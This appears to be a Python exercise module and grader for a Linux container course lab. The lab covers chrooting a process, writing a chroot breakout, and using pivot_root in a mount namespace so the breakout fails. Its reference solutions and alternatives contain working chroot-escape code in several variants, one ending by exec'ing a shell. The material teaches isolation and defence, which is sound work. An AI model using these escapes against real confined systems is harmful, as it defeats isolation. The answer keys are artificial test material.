"""Notebook 01's exercises: a process chrooted by hand, the breakout written
by the student, and pivot_root done so that the breakout has nowhere to go.
Each check asks the kernel: /proc/PID/root, /proc/PID/ns/mnt and the
process's own mount table (/proc/PID/mountinfo)."""

import json
import os
import subprocess
import sys

from labkit.course.lab import Exercise, background, env, kill_line, own_namespace, started, wait_line
from labkit.linux import mountinfo
from labkit.i18n import _

BREAKOUT = "/tmp/lab01/breakout.py"
BREAKOUT_SECONDS = 30          # a breakout that runs longer is stuck
PIVOT = "/tmp/lab01/pivot.sh"
NAMESPACES = ("mnt", "pid", "net", "uts", "ipc", "user", "cgroup")


def _rootfs():
    return env()["ROOTFS"]


def _same_file(a, b):
    sa, sb = os.stat(a), os.stat(b)
    return (sa.st_dev, sa.st_ino) == (sb.st_dev, sb.st_ino)


def _chrooted():
    pid, why = started("sleep", "1011")
    if pid is None:
        return False, why
    own = [kind for kind in NAMESPACES if own_namespace(pid, kind)]
    if own:
        return False, _("sleep 1011 has namespaces of its own ({kinds}): this one is a chroot alone "
                        "(chroot(8), no unshare)", kinds=", ".join(own))
    if _same_file(f"/proc/{pid}/root", "/"):
        return False, _("the root of sleep 1011 is the host's / (ls -l /proc/PID/root): it was not chrooted")
    if not _same_file(f"/proc/{pid}/root", _rootfs()):
        return False, _("sleep 1011 is chrooted, but not into {rootfs} (ls -l /proc/{pid}/root)",
                        rootfs=_rootfs(), pid=pid)
    return True, _("/proc/{pid}/root is {rootfs}, and every namespace of it is the host's", pid=pid,
                   rootfs=_rootfs())


# The breakout runs in a fresh interpreter, in a mount namespace of its own
# (unshare --mount: nothing it mounts reaches the host), chrooted into a jail
# that holds the host's /usr read-only, so that code which imports a module or
# execs a program after its first chroot works as it would in a real rootfs.
# Where / is when the code ends -- returns, sys.exit(), os._exit() or an exec
# (a breakout classically ends by exec'ing a shell) -- is the result.
_JAIL = r"""
import json, os, subprocess, sys
path, out = sys.argv[1], int(sys.argv[2])
code = open(path).read()
# A tmpfs over /tmp, in this mount namespace only: the jail leaves nothing on the host.
subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=0755", "lab01-jail", "/tmp"], check=True)
jail = "/tmp/jail"
os.mkdir(jail)
for name in ("usr", "bin", "sbin", "lib", "lib64", "lib32", "libx32"):
    if os.path.islink("/" + name):
        os.symlink(os.readlink("/" + name), os.path.join(jail, name))
    elif os.path.isdir("/" + name):
        os.mkdir(os.path.join(jail, name))
        subprocess.run(["mount", "--bind", "-o", "ro", "/" + name, os.path.join(jail, name)], check=True)
host = os.stat("/")
real_exit = os._exit
def report(how, error=None):
    now = os.stat("/")
    result = {"how": how, "error": error,
              "escaped": (now.st_dev, now.st_ino) == (host.st_dev, host.st_ino)}
    os.write(out, json.dumps(result).encode())
    os.close(out)
def exec_instead(how):
    def run(*args, **kwargs):
        report(how)
        real_exit(0)
    return run
os.execv, os.execve = exec_instead("execv"), exec_instead("execve")
os._exit = lambda status: (report("os._exit"), real_exit(status))
os.chroot(jail)
os.chdir("/")
sys.argv = [path]
try:
    exec(compile(code, path, "exec"), {"__name__": "__main__", "__file__": path})
    report("end")
except SystemExit as e:
    report("sys.exit", None if e.code in (None, 0) else f"SystemExit: {e.code}")
except BaseException as e:
    report("raise", f"{type(e).__name__}: {e}")
"""


def run_breakout(path, timeout=30):
    """Run ``path`` as root inside a chroot (see _JAIL); its report:
    {"escaped": bool, "how": it ended, "error": what it raised}, or
    {"error": why there is no report}."""
    import signal
    read, write = os.pipe()
    proc = subprocess.Popen(["unshare", "--mount", sys.executable, "-c", _JAIL, path, str(write)],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            pass_fds=(write,), start_new_session=True)
    os.close(write)
    try:
        err = proc.communicate(timeout=timeout)[1]
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        return {"error": _("it did not end within {seconds} s (an endless loop, or a program waiting for "
                           "input?)", seconds=timeout), "timeout": True}
    finally:
        report = os.read(read, 65536)
        os.close(read)
    if not report:
        lines = err.decode(errors="replace").strip().splitlines()
        return {"error": _("it ended without the check seeing where / was: {why}",
                           why=lines[-1] if lines else _("exit status {code}", code=proc.returncode))}
    return json.loads(report)


def _breakout():
    if not os.path.exists(BREAKOUT):
        return False, _("there is no {breakout}", breakout=BREAKOUT)
    result = run_breakout(BREAKOUT, BREAKOUT_SECONDS)
    if result.get("escaped"):
        return True, _("run as root inside a chroot, {breakout} ends with / being the host's /", breakout=BREAKOUT)
    if "escaped" not in result:
        return False, _("run inside a chroot, {breakout}: {error}", breakout=BREAKOUT, error=result["error"])
    if result.get("error"):
        return False, _("run inside a chroot, {breakout} raised {error}", breakout=BREAKOUT, error=result["error"])
    return False, _("run as root inside a chroot, {breakout} ends with / still the chroot's", breakout=BREAKOUT)


def namespace_mounts(pid):
    """Every mount of process ``pid``'s mount namespace, seen from the
    namespace's root. /proc/PID/mountinfo will not do: it lists only what is
    below the process's own root, so a chroot hides the host's / still
    mounted above it. A child joins the namespace (setns(2) moves its root
    to the namespace's root, as nsenter -m does) and reads its own table."""
    from labkit.linux import syscalls
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.close(read)
            fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
            syscalls.setns(fd, syscalls.CLONE_NEWNS)
            with open("/proc/self/mountinfo", "rb") as f:
                os.write(write, f.read())
        finally:
            os._exit(0)
    os.close(write)
    chunks = []
    while True:
        chunk = os.read(read, 1 << 16)
        if not chunk:
            break
        chunks.append(chunk)
    os.close(read)
    os.waitpid(child, 0)
    return mountinfo.parse(b"".join(chunks).decode())


def _host_root_mounts(pid):
    """Mounts in process ``pid``'s namespace that show the host's root
    filesystem from its top (or from above it, where / is a subvolume or a
    bind of a directory): through any of them the host is one chroot away."""
    host = next(m for m in mountinfo.parse(open("/proc/self/mountinfo").read()) if m.mount_point == "/")
    return [m.mount_point for m in namespace_mounts(pid) if shows_host_root(m, host)]


def shows_host_root(mount, host):
    """True when ``mount`` shows the host's root directory (the mount
    ``host``) at or below its top: the same filesystem, from the same
    directory or one above it (a btrfs / is often the subvolume /@)."""
    above = host.root.rstrip("/") + "/"
    return mount.dev == host.dev and above.startswith(mount.root.rstrip("/") + "/")


def _pivoted():
    pid, why = started("sleep", "1012")
    if pid is None:
        return False, _("{why} (start it with sh {pivot} \"$ROOTFS\" sleep 1012)", why=why, pivot=PIVOT)
    if not own_namespace(pid, "mnt"):
        return False, _("sleep 1012 is in the host's mount namespace: pivot_root needs one of its own "
                        "(unshare --mount)")
    left = _host_root_mounts(pid)
    own = mountinfo.parse(open(f"/proc/{pid}/mountinfo").read())
    if not any(m.mount_point == "/" for m in own):
        # A process's table lists only the mounts below its root: none at /
        # means its root is a directory of some mount, not a mount of its own.
        return False, _("the root of sleep 1012 is a directory, not a mount: it was changed by a chroot "
                        "alone, which the breakout undoes, and the host's / is still its namespace's root")
    if "/" in left:
        return False, _("the host's / is still mounted in its namespace, stacked on its root: `ls /..` "
                        "inside shows the host's files")
    if left:
        return False, _("the host's / is still mounted in its namespace at {mount}: `chroot {mount}` "
                        "gets out", mount=left[0])
    if not _same_file(f"/proc/{pid}/root", _rootfs()):
        return False, _("the root of sleep 1012 is not {rootfs} (ls -l /proc/{pid}/root)",
                        rootfs=_rootfs(), pid=pid)
    return True, _("sleep 1012 runs on the rootfs, and no mount of the host's / is left in its namespace")


PIVOT_SCRIPT = r"""mkdir -p /tmp/lab01 && cat > /tmp/lab01/pivot.sh <<'EOF'
#!/bin/sh
# pivot.sh ROOTFS CMD...: run CMD with ROOTFS as the root of a new mount namespace
set -e
exec unshare --mount sh -ec '
  mount --make-rprivate /          # nothing we do here propagates to the host
  mount --bind "$1" "$1"           # pivot_root wants a mount point
  cd "$1"; shift
  pivot_root . .                   # the old root is now stacked on the new one
  busybox umount -l .              # detach it (util-linux umount needs /proc)
  exec chroot . "$@"' sh "$@"
EOF"""

BREAKOUT_SCRIPT = r"""mkdir -p /tmp/lab01 && cat > /tmp/lab01/breakout.py <<'EOF'
import os
os.makedirs("x", exist_ok=True)
os.chroot("x")            # the new root is below the working directory...
for _ in range(64):
    os.chdir("..")        # ...so nothing stops ".." on the way up
os.chroot(".")            # the host's / is the root again
EOF"""

EXERCISES = [
    Exercise("01.chroot", "a chroot, and nothing more",
             "Start `sleep 1011` chrooted into the base rootfs ($ROOTFS), in the background, with no "
             "namespace of its own, what it prints kept in /tmp/lab01/chroot.log.",
             ["chroot(8): `chroot NEWROOT COMMAND` runs COMMAND with NEWROOT as its /",
              "`nohup setsid -f CMD >/tmp/lab01/chroot.log 2>&1` starts CMD in the background, detached from "
              "this shell, and keeps what it prints (nohup: each `!` line of a cell runs in a terminal of its "
              "own, which hangs up as the line ends, and its SIGHUP kills what is not yet detached)",
              "sudo mkdir -p /tmp/lab01; sudo nohup setsid -f chroot $ROOTFS sleep 1011 >/tmp/lab01/chroot.log 2>&1"],
             _chrooted,
             background("chroot $ROOTFS sleep 1011", "sleep", "1011", log="/tmp/lab01/chroot.log"),
             [kill_line("sleep", "1011")], log="/tmp/lab01/chroot.log"),
    Exercise("01.breakout", "the breakout, typed by hand",
             f"Write {BREAKOUT}: Python that, run as root inside a chroot, ends with its / being the host's "
             "/ (the check runs it in a chroot of its own).",
             ["chroot(2), NOTES: chroot does not change the working directory, and `..` is stopped only "
              "at the root of a process whose working directory is inside it",
              "os.chroot into a new subdirectory without os.chdir into it; then os.chdir('..') many times; "
              "then os.chroot('.')",
              "os.makedirs('x', exist_ok=True); os.chroot('x'); then 64 × os.chdir('..'); os.chroot('.')"],
             _breakout,
             [BREAKOUT_SCRIPT],
             ["rm -f /tmp/lab01/breakout.py; rmdir /tmp/lab01 2>/dev/null || true"]),
    Exercise("01.pivot", "pivot_root, so that the breakout stays inside",
             f"Write {PIVOT} ROOTFS CMD…: it runs CMD with ROOTFS as the root of a new mount namespace, by "
             "pivot_root, with no mount of the host's / left in that namespace. Then start "
             f"`sh {PIVOT} $ROOTFS sleep 1012` in the background, what it prints kept in /tmp/lab01/pivot.log.",
             ["pivot_root(2) and pivot_root(8): the new root must be a mount point; `pivot_root . .` stacks "
              "the old root on top of the new one",
              "unshare --mount; mount --make-rprivate /; mount --bind R R; cd R; pivot_root . .; then detach "
              "the old root with umount -l (busybox's: util-linux's needs /proc)",
              "the script's one command: exec unshare --mount sh -ec 'mount --make-rprivate /; "
              "mount --bind \"$1\" \"$1\"; cd \"$1\"; shift; pivot_root . .; busybox umount -l .; "
              f"exec chroot . \"$@\"' sh \"$@\"; then: sudo nohup setsid -f sh {PIVOT} $ROOTFS sleep 1012 >/tmp/lab01/pivot.log 2>&1"],
             _pivoted,
             [PIVOT_SCRIPT] + background(f"sh {PIVOT} $ROOTFS sleep 1012", "sleep", "1012", log="/tmp/lab01/pivot.log"),
             [kill_line("sleep", "1012"), "rm -f /tmp/lab01/pivot.sh; rmdir /tmp/lab01 2>/dev/null || true"],
             log="/tmp/lab01/pivot.log"),
]


def _breakout_file(code):
    return f"mkdir -p /tmp/lab01 && cat > {BREAKOUT} <<'EOF'\n{code}\nEOF"


def _pivot_file(body):
    return f"mkdir -p /tmp/lab01 && cat > {PIVOT} <<'EOF'\n{body}\nEOF"


_AT_1012 = background(f"sh {PIVOT} $ROOTFS sleep 1012", "sleep", "1012")

ALTERNATIVES = {
    "01.chroot": {
        "full paths": background("/usr/sbin/chroot $ROOTFS /bin/sleep 1011", "sleep", "1011"),
        "busybox's sleep, started with nohup and &": [
            "nohup chroot $ROOTFS busybox sleep 1011 >/dev/null 2>&1 &", wait_line("sleep", "1011")],
        "Python's os.chroot, then exec": background(
            "python3 -c 'import os, sys; os.chroot(sys.argv[1]); os.chdir(\"/\"); "
            "os.execvp(\"sleep\", [\"sleep\", \"1011\"])' $ROOTFS", "sleep", "1011"),
    },
    "01.breakout": {
        "a descriptor of the old root kept open (fchdir)": [_breakout_file(
            "import os\nfd = os.open('/', os.O_RDONLY)\nos.makedirs('jail', exist_ok=True)\nos.chroot('jail')\n"
            "os.fchdir(fd)\nos.chdir('../../../../..')\nos.chroot('.')")],
        "imports inside the jail, climbs until .. is ., ends by exec'ing a shell": [_breakout_file(
            "import os, json, shutil\nos.makedirs('x', exist_ok=True)\nos.chroot('x')\n"
            "while os.stat('.').st_ino != os.stat('..').st_ino:\n    os.chdir('..')\nos.chroot('.')\n"
            "os.execl('/bin/sh', 'sh')")],
        "ctypes' chroot(2), and sys.exit(0)": [_breakout_file(
            "import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nos.mkdir('y')\n"
            "assert libc.chroot(b'y') == 0\nfor _ in range(100):\n    os.chdir('..')\n"
            "assert libc.chroot(b'.') == 0\nsys.exit(0)")],
    },
    "01.pivot": {
        "the old root put in the rootfs' /mnt, then unmounted there": [_pivot_file(
            "#!/bin/sh\nset -e\nexec unshare -m sh -ec '\n  mount --make-rprivate /\n  mount --bind \"$1\" \"$1\"\n"
            "  cd \"$1\"; shift\n  pivot_root . mnt\n  cd /\n  busybox umount -l /mnt\n  exec \"$@\"' sh \"$@\"")] + _AT_1012,
        "unshare's own private propagation, absolute paths": [_pivot_file(
            "#!/bin/sh\nset -e\nexec /usr/bin/unshare --mount --propagation private /bin/sh -ec '\n"
            "  /bin/mount --rbind \"$1\" \"$1\"\n  cd \"$1\"; shift\n  /sbin/pivot_root . .\n"
            "  /bin/busybox umount -l .\n  exec /usr/sbin/chroot . \"$@\"' sh \"$@\"")] + _AT_1012,
    },
}

NEAR_MISSES = {
    "01.chroot": {
        "no chroot": (background("sleep 1011", "sleep", "1011"), "was not chrooted"),
        "a chroot in a PID namespace of its own too": (
            background("unshare --pid --fork chroot $ROOTFS sleep 1011", "sleep", "1011"),
            "namespaces of its own (pid)"),
    },
    "01.breakout": {
        "chdir('/') after the inner chroot": ([_breakout_file(
            "import os\nos.makedirs('x', exist_ok=True)\nos.chroot('x')\nos.chdir('/')\nos.chroot('.')")],
            "still the chroot's"),
        "a chroot into a directory that is not there": ([_breakout_file("import os\nos.chroot('nowhere')")],
                                                        "raised FileNotFoundError"),
        "a loop that never ends": ([_breakout_file("while True:\n    pass")], "did not end within"),
    },
    "01.pivot": {
        "no detach of the old root": ([PIVOT_SCRIPT.replace("busybox umount -l .", "true")] + _AT_1012,
                                      "stacked on its root: `ls /..`"),
        "a mount namespace and a chroot, no pivot_root": (
            [_pivot_file("#!/bin/sh\nexec unshare --mount chroot \"$@\"")] + _AT_1012,
            "changed by a chroot alone"),
        "pivot_root without a mount namespace of its own": (
            [_pivot_file("#!/bin/sh\nexec chroot \"$@\"")] + _AT_1012, "host's mount namespace"),
    },
}
